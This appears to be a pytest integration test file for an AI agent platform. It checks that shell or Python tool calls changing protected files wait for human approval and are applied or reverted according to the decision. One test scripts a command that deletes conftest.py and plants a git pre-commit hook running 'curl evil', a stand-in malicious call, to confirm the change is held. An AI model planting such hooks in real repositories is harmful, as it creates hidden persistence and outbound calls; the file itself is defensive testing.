"""A bash/python call that changes protected files is held for approval like a write.

Real processes: simulator, API, agent worker (module-wide) and a Docker sandbox
worker. The model's script runs a command; what is checked is what the user
sees: the job waits with an ``exec_changes`` approval listing the protected
paths and their diffs, the files on disk stay as they were until the human
decides, apply puts the new state in place, reject / request changes leave
the originals, and a command touching only unprotected files never waits.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy.orm import Session, sessionmaker

from services.sandbox.settings import SandboxSettings
from services.sandbox.workspace import prepare_workspace
from tests.conftest import Stack
from tests.fixtures.builders import client_for, make_user, wait_job
from tests.fixtures.processes import RunningStack, running_stack
from tests.sandbox.conftest import WorkerProc
from tests.worker.approvals.conftest import lease_owner, tool_messages, wait_waiting

MAKEFILE = "all:\n\techo building\n"


@pytest.fixture(scope="module")
def agents(
    stack: Stack, sandbox_worker: WorkerProc, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningStack]:
    """Simulator, API and agent worker beside the session's sandbox worker."""
    with running_stack(stack, tmp_path_factory.mktemp("protected-exec")) as running:
        yield running


def _session(
    client: httpx.Client, settings: SandboxSettings, files: dict[str, str]
) -> tuple[str, Path]:
    """A session whose workspace already holds ``files`` (writable by the sandbox uid)."""
    session = client.post("/v1/sessions", json={}).json()
    ws = Path(os.environ["LEAFLAB_HOME"]) / "workspaces" / session["id"]
    uid, gid = settings.sandbox_uid_gid
    prepare_workspace(ws, sandbox_uid=uid, sandbox_gid=gid)
    for name, text in files.items():
        (ws / name).write_text(text)
    return str(session["id"]), ws


def _run(
    client: httpx.Client, agents: RunningStack, session_id: str, tool: str, source: str
) -> str:
    arguments: dict[str, Any] = {"command": source} if tool == "bash" else {"code": source}
    agents.sim.set_script(
        session_id,
        {
            "latency_ms": 30,
            "replies": [
                {"tool_calls": [{"name": tool, "arguments": {**arguments, "timeout": 60}}]},
                {"content": "done"},
            ],
        },
    )
    resp = client.post(f"/v1/sessions/{session_id}/messages", json={"content": "build it"})
    return str(resp.json()["job_id"])


def _decide(client: httpx.Client, job_id: str, approval: dict[str, Any], **body: Any) -> None:
    resp = client.post(f"/v1/jobs/{job_id}/approvals/{approval['id']}", json=body)
    assert resp.status_code == 200, resp.text


def _held(approval: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {d["path"]: d for d in approval["diffs"] if "path" in d}


def _no_stash_left(job_id: str) -> bool:
    held = Path(os.environ["LEAFLAB_HOME"]) / "workspaces" / ".held" / job_id
    return not held.exists() or not any(held.iterdir())


def test_echo_into_makefile_waits_and_lands_only_when_applied(
    agents: RunningStack,
    sandbox_settings: SandboxSettings,
    session_factory: sessionmaker[Session],
) -> None:
    client = client_for(agents.url, make_user(session_factory))
    session_id, ws = _session(client, sandbox_settings, {"Makefile": MAKEFILE})
    job_id = _run(client, agents, session_id, "bash", "echo x >> Makefile && echo appended")
    approval = wait_waiting(client, job_id)

    # Waiting: the command ran (its output is shown), the Makefile is as it was.
    assert (ws / "Makefile").read_text() == MAKEFILE
    assert lease_owner(session_factory, job_id) is None
    assert approval["kind"] == "exec_changes" and approval["tool_name"] == "bash"
    command = approval["diffs"][0]
    assert command["command"] == "echo x >> Makefile && echo appended"
    assert "appended" in command["output"]
    held = _held(approval)
    assert list(held) == ["Makefile"]
    assert held["Makefile"]["change"] == "modified" and held["Makefile"]["held"] is True
    assert "+x" in held["Makefile"]["diff"]

    _decide(client, job_id, approval, decision="apply")
    job = wait_job(client, job_id, timeout_s=90)
    assert job["status"] == "succeeded", job
    assert (ws / "Makefile").read_text() == MAKEFILE + "x\n"
    (after,) = client.get(f"/v1/jobs/{job_id}/approvals").json()["items"]
    assert after["status"] == "applied"
    steps = client.get(f"/v1/jobs/{job_id}/steps").json()["items"]
    (bash,) = [s for s in steps if s["name"] == "bash"]
    assert bash["status"] == "succeeded" and bash["executions"] == 1  # ran once, not again
    (msg,) = tool_messages(client, session_id)
    assert "appended" in msg["content"] and "kept: Makefile" in msg["content"]
    assert _no_stash_left(job_id)


def test_reject_keeps_the_originals_of_a_changed_deleted_and_created_path(
    agents: RunningStack,
    sandbox_settings: SandboxSettings,
    session_factory: sessionmaker[Session],
) -> None:
    client = client_for(agents.url, make_user(session_factory))
    session_id, ws = _session(
        client, sandbox_settings, {"Makefile": MAKEFILE, "conftest.py": "import os\n"}
    )
    command = (
        "echo x >> Makefile; rm conftest.py; mkdir -p .git/hooks; "
        "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; echo kept > notes.txt"
    )
    job_id = _run(client, agents, session_id, "bash", command)
    approval = wait_waiting(client, job_id)
    changes = {p: d["change"] for p, d in _held(approval).items()}
    assert changes == {
        "Makefile": "modified",
        "conftest.py": "deleted",
        ".git/hooks/pre-commit": "created",
    }
    assert "+curl evil" in _held(approval)[".git/hooks/pre-commit"]["diff"]
    assert (ws / "Makefile").read_text() == MAKEFILE
    assert (ws / "conftest.py").read_text() == "import os\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / "notes.txt").read_text() == "kept\n"  # unprotected: not held

    _decide(client, job_id, approval, decision="reject")
    job = wait_job(client, job_id, timeout_s=90)
    assert job["status"] == "succeeded", job
    assert (ws / "Makefile").read_text() == MAKEFILE
    assert (ws / "conftest.py").read_text() == "import os\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    (msg,) = tool_messages(client, session_id)
    assert "rejected" in msg["content"] and "reverted" in msg["content"]
    (after,) = client.get(f"/v1/jobs/{job_id}/approvals").json()["items"]
    assert after["status"] == "rejected"
    assert _no_stash_left(job_id)


def test_python_writing_pyproject_with_changes_requested_keeps_nothing(
    agents: RunningStack,
    sandbox_settings: SandboxSettings,
    session_factory: sessionmaker[Session],
) -> None:
    client = client_for(agents.url, make_user(session_factory))
    session_id, ws = _session(client, sandbox_settings, {})
    code = "open('pyproject.toml', 'w').write('[project]\\nname = \"x\"\\n')\nprint('wrote')"
    job_id = _run(client, agents, session_id, "python", code)
    approval = wait_waiting(client, job_id)
    assert _held(approval)["pyproject.toml"]["change"] == "created"
    assert not (ws / "pyproject.toml").exists()
    _decide(client, job_id, approval, decision="request_changes", feedback="no packaging")
    job = wait_job(client, job_id, timeout_s=90)
    assert job["status"] == "succeeded", job
    assert not (ws / "pyproject.toml").exists()
    (msg,) = tool_messages(client, session_id)
    assert "wrote" in msg["content"] and "no packaging" in msg["content"]


def test_a_command_touching_only_unprotected_files_runs_without_approval(
    agents: RunningStack,
    sandbox_settings: SandboxSettings,
    session_factory: sessionmaker[Session],
) -> None:
    client = client_for(agents.url, make_user(session_factory))
    session_id, ws = _session(client, sandbox_settings, {"Makefile": MAKEFILE})
    job_id = _run(
        client, agents, session_id, "bash", "mkdir -p data && echo 1,2 > data/a.csv && cat Makefile"
    )
    job = wait_job(client, job_id, timeout_s=90)
    assert job["status"] == "succeeded", job
    assert client.get(f"/v1/jobs/{job_id}/approvals").json()["items"] == []
    assert (ws / "data" / "a.csv").read_text() == "1,2\n"
    (msg,) = tool_messages(client, session_id)
    assert "echo building" in msg["content"]
    assert _no_stash_left(job_id)
